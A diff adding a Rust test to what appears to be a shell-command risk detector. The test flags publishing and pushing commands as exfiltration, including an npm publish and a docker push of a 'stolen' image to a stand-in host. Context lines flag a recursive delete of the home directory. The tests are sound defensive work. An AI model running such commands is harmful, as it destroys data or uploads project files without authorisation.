@@ -676,3 +676,17 @@ fn positional_parameters_and_read_here_strings() {
     flagged("read -r d <<< ~; rm -rf \"$d\"", Destructive, Critical);
     clean("set -- build dist; rm -rf \"$@\"");
 }
+
+/// Publishing the project (npm, cargo, twine) and pushing images upload
+/// its files; `--dry-run` does nothing.
+#[test]
+fn publishing_uploads_the_project() {
+    flagged(
+        "npm publish --registry https://x.example/",
+        Exfiltration,
+        Medium,
+    );
+    flagged("docker push x.example/stolen:latest", Exfiltration, Medium);
+    flagged("twine upload dist/*", Exfiltration, Medium);
+    clean("npm publish --dry-run");
+}
